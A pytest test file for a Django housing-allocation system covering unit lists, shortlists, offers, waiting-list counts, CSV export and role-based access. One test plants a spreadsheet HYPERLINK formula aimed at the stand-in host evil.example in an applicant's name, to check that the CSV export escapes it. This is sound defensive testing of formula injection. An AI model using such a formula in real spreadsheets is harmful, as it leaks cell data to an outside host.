"""Allocation pages: housing stock, shortlist, offers, waiting list and its CSV; who may see them."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.conf import settings
from django.contrib.messages import get_messages
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation

from allocation.models import Offer, Unit
from allocation.querysets import waiting_cases, waiting_counts, waiting_households
from stord_bolig.models import AccessLog, Letter
from tenancies.models import Lease
from tests.allocation.conftest import DAY, TODAY, free_unit, waiting_case
from tests.conftest import verified_client
from tests.factories import HouseholdFactory, PersonFactory

pytestmark = pytest.mark.usefixtures("pinned_today")


@pytest.fixture
def english(caseworker_client):
    """The caseworker has chosen English, so the assertions below read the English texts."""
    caseworker_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return caseworker_client


def _messages(response) -> list[str]:
    return [str(message) for message in get_messages(response.wsgi_request)]


# --- housing stock ----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_unit_list__caseworker_sees_units_and_can_filter_them(english):
    free_unit(address="Sjøvegen 1, 5411 Stord", bedrooms=1)
    free_unit(address="Sjøvegen 2, 5411 Stord", bedrooms=3, wheelchair_accessible=True)
    free_unit(address="Fjellvegen 9, 5411 Stord", bedrooms=3, status=Unit.Status.LET)
    url = reverse("allocation:unit-list")

    everything = english.get(url)
    by_street = english.get(url, {"q": "sjøvegen"})
    by_size_and_status = english.get(url, {"bedrooms": 3, "status": "free"})

    assert everything.status_code == 200
    assert all(street in everything.content.decode() for street in ("Sjøvegen 1", "Sjøvegen 2", "Fjellvegen 9"))
    assert "Sjøvegen 1" in by_street.content.decode() and "Sjøvegen 2" in by_street.content.decode()
    assert "Fjellvegen 9" not in by_street.content.decode()
    assert [u.address for u in by_size_and_status.context["page"]] == ["Sjøvegen 2, 5411 Stord"]
    accessible = english.get(url, {"wheelchair_accessible": "true"})
    not_accessible = english.get(url, {"wheelchair_accessible": "false"})
    assert [u.address for u in accessible.context["page"]] == ["Sjøvegen 2, 5411 Stord"]
    assert len(not_accessible.context["page"]) == 2
    # The wheelchair filter starts at "All", not at an "Unknown" that reads like a property of the homes.
    html = everything.content.decode()
    wheelchair = html[html.index('name="wheelchair_accessible"') :].split("</select>", 1)[0]
    assert '<option value="" selected>All</option>' in wheelchair and "Unknown" not in wheelchair


@pytest.mark.django_db
def test_unit_list__free_filter_leaves_out_a_home_no_longer_in_the_stock(english):
    free_unit(address="Sjøvegen 1, 5411 Stord")
    free_unit(address="Gamlevegen 3, 5411 Stord", in_stock_until=TODAY - DAY)  # sold last week, still marked free
    url = reverse("allocation:unit-list")

    free = english.get(url, {"status": "free"})
    everything = english.get(url).content.decode()

    assert [u.address for u in free.context["page"]] == ["Sjøvegen 1, 5411 Stord"]
    assert "1 unit" in free.content.decode()
    assert "Gamlevegen 3" in everything  # the list still shows it, as what it is
    assert everything.count("Not in the stock") == 2  # its row, and the status filter's choice for it
    out = english.get(url, {"status": "out_of_stock"})
    assert [u.address for u in out.context["page"]] == ["Gamlevegen 3, 5411 Stord"]


@pytest.mark.django_db
def test_unit_detail__free_unit_shows_the_ranked_shortlist_and_who_is_left_out_and_why(english):
    unit = free_unit(bedrooms=1)
    first = waiting_case(urgency="A")
    second = waiting_case(urgency="C")
    wheelchair = waiting_case(wheelchair_need=True)
    family = waiting_case(children=(dt.date(2010, 1, 1), dt.date(2011, 2, 1)))  # needs 3 bedrooms

    page = english.get(unit.get_absolute_url()).content.decode()
    response = english.get(reverse("allocation:unit-shortlist", args=[unit.ref]), HTTP_HX_REQUEST="true")

    # the page loads its shortlist after itself; the part it loads is the shortlist alone
    assert f'hx-get="{reverse("allocation:unit-shortlist", args=[unit.ref])}?on=2026-11-25"' in page
    assert first.ref not in page
    assert response.status_code == 200
    html = response.content.decode()
    assert html.startswith('<div id="shortlist-body"') and "<nav" not in html
    start = html.index('data-testid="shortlist"')
    shortlist = html[start : html.index("</table>", start)]
    assert shortlist.index(first.ref) < shortlist.index(second.ref)
    assert "Band A" in shortlist and "Band C" in shortlist
    assert wheelchair.ref not in shortlist and family.ref not in shortlist
    excluded = html[html.index('data-testid="excluded"') :]
    assert f"{wheelchair.ref}</a>: needs a wheelchair-accessible home" in excluded
    assert f"{family.ref}</a>: too few bedrooms" in excluded
    assert "2 waiting households are not eligible" in html


@pytest.mark.django_db
def test_unit_detail__exclusion_reasons_follow_the_users_language(caseworker_client):
    unit = free_unit(bedrooms=1)
    wheelchair = waiting_case(wheelchair_need=True)
    url = reverse("allocation:unit-shortlist", args=[unit.ref])  # a page of its own without JavaScript

    caseworker_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "nn"
    nynorsk = caseworker_client.get(url).content.decode()
    caseworker_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    english = caseworker_client.get(url).content.decode()

    with translation.override("nn"):
        label = translation.gettext("needs a wheelchair-accessible home")
    assert label != "needs a wheelchair-accessible home"  # the catalogue has a nynorsk text for it
    assert f"{wheelchair.ref}</a>: {label}" in nynorsk
    assert f"{wheelchair.ref}</a>: needs a wheelchair-accessible home" in english


@pytest.mark.django_db
def test_unit_detail__let_unit_shows_no_shortlist(english):
    unit = free_unit(status=Unit.Status.LET)
    waiting = waiting_case()

    response = english.get(unit.get_absolute_url())
    asked_anyway = english.get(reverse("allocation:unit-shortlist", args=[unit.ref]))

    assert response.status_code == 200
    assert "unit-shortlist" not in response.content.decode() and "shortlist-body" not in response.content.decode()
    assert waiting.ref not in response.content.decode()
    assert "No shortlist: the home is not free." in asked_anyway.content.decode()
    assert waiting.ref not in asked_anyway.content.decode()
    assert not AccessLog.objects.filter(section="shortlist").exists()  # nothing about anyone was shown


@pytest.mark.django_db
def test_unit_detail__its_tenancies_link_to_their_leases_for_those_who_may_open_them(english, make_user):
    from django.test import Client

    from tests.factories import LeaseFactory

    unit = free_unit(status=Unit.Status.LET)
    old = LeaseFactory(unit=unit, start=dt.date(2021, 1, 1), end=dt.date(2023, 12, 31), moved_out=dt.date(2023, 12, 31))
    current = LeaseFactory(unit=unit, start=dt.date(2024, 1, 1), end=dt.date(2026, 12, 31))
    management = verified_client(Client(), make_user("management"))

    page = english.get(unit.get_absolute_url()).content.decode()
    seen_by_management = management.get(unit.get_absolute_url()).content.decode()

    assert f'<a href="{current.get_absolute_url()}">{current.ref}</a>' in page
    assert f'<a href="{old.get_absolute_url()}">{old.ref}</a>' in page and "(moved out 31.12.2023)" in page
    assert current.ref in seen_by_management and current.get_absolute_url() not in seen_by_management


@pytest.mark.django_db
def test_offer_make_view__post_makes_the_offer_and_redirects_with_a_success_message(english, caseworker):
    unit = free_unit()
    application = waiting_case()

    response = english.post(reverse("allocation:offer-make", args=[unit.ref]), {"application": application.ref})

    assert response.status_code == 302
    assert response.url == unit.get_absolute_url()
    offer = Offer.objects.get()
    assert (offer.application, offer.unit, offer.offered, offer.made_by) == (application, unit, TODAY, caseworker)
    assert Letter.objects.filter(kind="offer", case_ref=application.ref).exists()
    assert _messages(response) == [
        f"Offer {offer.ref} to {application.ref} is made; the answer is due 02.12.2026. "
        "The offer letter is being prepared."
    ]
    page = english.get(unit.get_absolute_url()).content.decode()
    assert offer.ref in page and reverse("allocation:offer-answer", args=[offer.ref]) in page


@pytest.mark.django_db
def test_offer_make_view__passing_over_number_one_is_left_to_an_allocation_meeting(english):
    unit = free_unit(bedrooms=1)
    first = waiting_case(urgency="A")
    second = waiting_case(urgency="C")
    shortlist = english.get(reverse("allocation:unit-shortlist", args=[unit.ref])).content.decode()
    assert f'data-testid="offer-{first.ref}"' in shortlist and f'data-testid="offer-{second.ref}"' not in shortlist
    assert f'data-testid="meeting-{second.ref}"' in shortlist

    response = english.post(reverse("allocation:offer-make", args=[unit.ref]), {"application": second.ref})

    assert response.status_code == 302 and not Offer.objects.exists()
    assert _messages(response) == [
        f"{second.ref} is number 2 on the shortlist. Passing over number 1 is decided in an allocation meeting, "
        "where the reason is recorded."
    ]
    assert Unit.objects.get(pk=unit.pk).status == "free"


@pytest.mark.django_db
def test_offer_make_view__ineligible_case_redirects_with_the_reason_and_makes_nothing(english):
    unit = free_unit(bedrooms=1)
    application = waiting_case(wheelchair_need=True)

    response = english.post(reverse("allocation:offer-make", args=[unit.ref]), {"application": application.ref})

    assert response.status_code == 302
    assert not Offer.objects.exists()
    assert _messages(response) == [
        f"{application.ref} is not eligible for this unit: needs a wheelchair-accessible home."
    ]


@pytest.mark.django_db
def test_offer_make_view__get_is_not_allowed_and_unknown_case_is_404(english):
    unit = free_unit()
    url = reverse("allocation:offer-make", args=[unit.ref])

    assert english.get(url).status_code == 405
    assert english.post(url, {"application": "S-1999-9999"}).status_code == 404
    assert english.post(reverse("allocation:offer-make", args=["U-NOPE"]), {"application": "x"}).status_code == 404
    assert not Offer.objects.exists()


# --- answering an offer --------------------------------------------------------------------------------


@pytest.fixture
def open_offer(caseworker):
    from allocation import services

    return services.offer_make(application=waiting_case(), unit=free_unit(), offered=TODAY - 2 * DAY, by=caseworker)


@pytest.mark.django_db
def test_offer_answer_view__page_shows_the_offer_and_deadline(english, open_offer):
    response = english.get(reverse("allocation:offer-answer", args=[open_offer.ref]))

    assert response.status_code == 200
    html = response.content.decode()
    assert open_offer.unit.address in html
    assert "answer due 30.11.2026" in html


@pytest.mark.django_db
def test_offer_answer_view__accepting_lets_the_unit_and_drafts_the_lease(english, open_offer):
    response = english.post(
        reverse("allocation:offer-answer", args=[open_offer.ref]),
        {"answer": "accepted", "answered": TODAY.isoformat(), "reason": ""},
    )

    assert response.status_code == 302
    assert response.url == open_offer.unit.get_absolute_url()
    assert _messages(response) == [f"The answer to offer {open_offer.ref} is recorded."]
    open_offer.refresh_from_db()
    assert open_offer.status == Offer.Status.ACCEPTED
    assert Unit.objects.get(pk=open_offer.unit_id).status == Unit.Status.LET
    assert Lease.objects.filter(unit=open_offer.unit, household=open_offer.application.household).exists()


@pytest.mark.django_db
def test_offer_answer_view__answer_after_the_deadline_shows_the_error_on_the_form(english, open_offer):
    response = english.post(
        reverse("allocation:offer-answer", args=[open_offer.ref]),
        {"answer": "refused", "answered": (TODAY + 10 * DAY).isoformat(), "reason": "Manglar heis"},
    )

    assert response.status_code == 200
    assert "The answer date must be between the offer date and the deadline 30.11.2026." in response.content.decode()
    open_offer.refresh_from_db()
    assert open_offer.status == Offer.Status.OPEN


# --- waiting list -----------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_waiting_list__shows_each_waiting_case_with_its_state(english):
    urgent = waiting_case(urgency="A")
    ordinary = waiting_case(urgency="C", suspended_until=TODAY + 10 * DAY)
    offered = waiting_case(urgency="B")
    from allocation import services

    offer = services.offer_make(application=offered, unit=free_unit(), offered=TODAY, by=None)
    from tests.factories import LeaseFactory

    moving = waiting_case(urgency="C")
    lease = LeaseFactory(application=moving, household=moving.household, start=dt.date(2026, 12, 15))

    response = english.get(reverse("allocation:waiting-list"))

    assert response.status_code == 200
    assert [row["case"].ref for row in response.context["rows"]] == [urgent.ref, offered.ref, ordinary.ref, moving.ref]
    html = response.content.decode()
    assert "4 households waiting on 25.11.2026." in html  # waiting until the lease starts, as KOSTRA counts
    assert f"lease {lease.ref} from 15.12.2026" in html
    answer = reverse("allocation:offer-answer", args=[offer.ref])
    assert f'open offer <a href="{answer}" data-testid="waiting-offer">{offer.ref}</a>' in html  # record its answer
    assert "suspended until 05.12.2026" in html
    only_a = english.get(reverse("allocation:waiting-list"), {"band": "A"})
    assert [row["case"].ref for row in only_a.context["rows"]] == [urgent.ref]


@pytest.mark.django_db
def test_waiting_list__csv_is_semicolon_separated_with_a_header_and_no_formulas(english):
    person = PersonFactory(given_name='=HYPERLINK("http://evil.example/?x="&A1,"Klikk")', family_name="Hansen")
    application = waiting_case(household=HouseholdFactory(applicant=person), suspended_until=TODAY - DAY)
    plain = waiting_case(suspended_until=TODAY + 10 * DAY)

    response = english.get(reverse("allocation:waiting-list"), {"format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="venteliste-2026-11-25.csv"'
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == [  # in the user's language, for a person reading a spreadsheet
        "Case",
        "Applicant",
        "Band",
        "Decided",
        "Received",
        "Bedrooms",
        "Needs wheelchair access",
        "Target group",
        "Suspended until",
        "Open offer",
    ]
    by_case = {row[0]: row for row in rows[1:]}
    assert set(by_case) == {application.ref, plain.ref}
    assert by_case[application.ref][1] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Klikk") Hansen'
    assert by_case[plain.ref][1] == str(plain.household.applicant)
    assert by_case[plain.ref][3] == "2026-10-01"
    assert (by_case[plain.ref][6], by_case[plain.ref][7]) == ("No", "Ordinary")  # words, not codes
    # a suspension that ended yesterday is over; one that runs on is shown
    assert (by_case[application.ref][8], by_case[plain.ref][8]) == ("", "2026-12-05")


@pytest.mark.django_db
def test_waiting_list__counts_cases_for_the_pages_and_a_household_with_two_cases_once(english):
    first = waiting_case(urgency="A")
    waiting_case(urgency="A", kind="swap", household=first.household)  # the same household, waiting to swap too
    for _ in range(50):
        waiting_case(urgency="B")

    everyone = english.get(reverse("allocation:waiting-list"))
    band_a = english.get(reverse("allocation:waiting-list"), {"band": "A"})

    assert (everyone.context["page"].paginator.count, everyone.context["households"]) == (52, 51)
    assert everyone.context["page"].paginator.num_pages == 2  # fifty cases a page
    assert "51 households waiting on 25.11.2026." in everyone.content.decode()
    assert (band_a.context["page"].paginator.count, band_a.context["households"]) == (2, 1)
    assert waiting_counts(TODAY) == (waiting_cases(TODAY).count(), waiting_households(TODAY)) == (52, 51)


@pytest.mark.django_db
def test_waiting_counts__a_household_housed_from_a_later_day_waits_until_then():
    from tests.factories import LeaseFactory

    later = waiting_case(urgency="B")
    LeaseFactory(application=later, household=later.household, start=TODAY + 10 * DAY, end=None)
    waiting_case(urgency="B", kind="swap", household=later.household)
    housed = waiting_case(urgency="A")
    LeaseFactory(application=housed, household=housed.household, start=TODAY, end=None)
    later.refresh_from_db()
    assert later.waiting_until == TODAY + 10 * DAY  # kept by the database's triggers

    assert waiting_counts(TODAY) == (2, 1) == (waiting_cases(TODAY).count(), waiting_households(TODAY))
    assert waiting_counts(TODAY, band="B") == (2, 1)
    assert waiting_counts(TODAY, band="A") == (0, 0)
    assert waiting_counts(TODAY + 10 * DAY) == (1, 1)  # the swap still waits once the first lease has started


@pytest.mark.django_db
def test_waiting_list__query_count_does_not_grow_with_the_list(english):
    def count_queries() -> int:
        with CaptureQueriesContext(connection) as queries:
            response = english.get(reverse("allocation:waiting-list"))
        assert response.status_code == 200
        return len(queries)

    for _ in range(3):
        waiting_case(children=(dt.date(2015, 1, 1),))
    count_queries()  # the day's first request also computes the waiting-time estimates
    small = count_queries()
    for _ in range(17):
        waiting_case(children=(dt.date(2016, 1, 1),))
    large = count_queries()

    assert len(english.get(reverse("allocation:waiting-list")).context["rows"]) == 20
    assert large == small


# --- who may see what -------------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "method", "args"),
    [
        ("allocation:unit-list", "get", []),
        ("allocation:unit-detail", "get", ["unit"]),
        ("allocation:offer-make", "post", ["unit"]),
        ("allocation:offer-answer", "get", ["offer"]),
        ("allocation:waiting-list", "get", []),
        ("allocation:meeting-list", "get", []),
    ],
)
def test_allocation_pages__nav_advisor_is_refused_and_anonymous_is_sent_to_login(
    client, make_user, open_offer, name, method, args
):
    refs = {"unit": open_offer.unit.ref, "offer": open_offer.ref}
    url = reverse(name, args=[refs[a] for a in args])
    data = {"application": open_offer.application.ref} if method == "post" else {}

    anonymous = getattr(client, method)(url, data)
    nav = getattr(verified_client(client, make_user("nav_advisor")), method)(url, data)

    assert anonymous.status_code == 302 and anonymous.url.startswith(reverse("login"))
    assert nav.status_code == 403
    assert open_offer.application.ref not in nav.content.decode()
    assert Offer.objects.count() == 1


@pytest.mark.django_db
def test_waiting_list__csv_export_is_refused_to_a_nav_advisor(client, make_user):
    application = waiting_case()
    nav_client = verified_client(client, make_user("nav_advisor"))

    response = nav_client.get(reverse("allocation:waiting-list"), {"format": "csv"})

    assert response.status_code == 403
    assert application.ref not in response.content.decode()


def test_waiting_list__links_a_case_only_for_those_who_may_open_it(client, make_user, english):
    case = waiting_case()
    html = english.get(reverse("allocation:waiting-list")).content.decode()
    assert f'<a href="{case.get_absolute_url()}">{case.ref}</a>' in html
    management = verified_client(client, make_user("management"))
    response = management.get(reverse("allocation:waiting-list"))
    assert response.status_code == 200
    html = response.content.decode()
    assert case.ref in html and case.get_absolute_url() not in html  # the case page would answer 404


@pytest.mark.django_db
def test_unit_page__links_an_offers_case_only_for_those_who_may_open_it(client, make_user, english):
    from allocation import services

    unit = free_unit()
    offer = services.offer_make(application=waiting_case(), unit=unit, offered=TODAY, by=None)
    case = offer.application

    html = english.get(unit.get_absolute_url()).content.decode()
    assert f'<a href="{case.get_absolute_url()}">{case.ref}</a>' in html
    management = verified_client(client, make_user("management"))
    response = management.get(unit.get_absolute_url())
    assert response.status_code == 200
    html = response.content.decode()
    assert case.ref in html and case.get_absolute_url() not in html  # the case page would answer 404
    assert management.get(case.get_absolute_url()).status_code == 404


@pytest.mark.django_db
def test_unit_page__a_free_home_someone_still_lives_in_lists_no_candidates_and_says_why(english):
    from tests.factories import LeaseFactory

    waiting_case()
    unit = free_unit()
    stayed_on = LeaseFactory(unit=unit, start=dt.date(2022, 1, 1), end=dt.date(2025, 12, 31), moved_out=None)

    shortlist_url = reverse("allocation:unit-shortlist", args=[unit.ref])
    occupied = english.get(unit.get_absolute_url())
    occupied_shortlist = english.get(shortlist_url, HTTP_HX_REQUEST="true").content.decode()
    Lease.objects.filter(pk=stayed_on.pk).update(moved_out=dt.date(2026, 1, 15))
    vacated = english.get(unit.get_absolute_url())

    html = occupied.content.decode()
    assert 'data-testid="occupied"' in html and stayed_on.ref in html
    assert shortlist_url not in html
    assert f"No shortlist: lease {stayed_on.ref} has no move-out recorded." in occupied_shortlist
    assert 'data-testid="shortlist"' not in occupied_shortlist
    assert shortlist_url in vacated.content.decode()
    assert 'data-testid="shortlist"' in english.get(shortlist_url, HTTP_HX_REQUEST="true").content.decode()
